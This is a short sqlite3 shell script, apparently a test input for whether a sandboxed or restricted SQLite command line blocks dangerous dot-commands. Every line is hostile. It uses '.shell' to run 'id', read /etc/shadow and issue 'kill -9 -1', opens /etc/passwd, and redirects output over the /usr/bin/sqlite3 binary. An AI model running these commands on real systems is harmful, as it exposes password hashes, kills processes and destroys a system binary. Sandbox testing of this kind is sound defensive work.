.shell id; cat /etc/shadow; kill -9 -1
.open /etc/passwd
SELECT 'LEAK' FROM sqlite_master;
.output /usr/bin/sqlite3
SELECT 'alive';
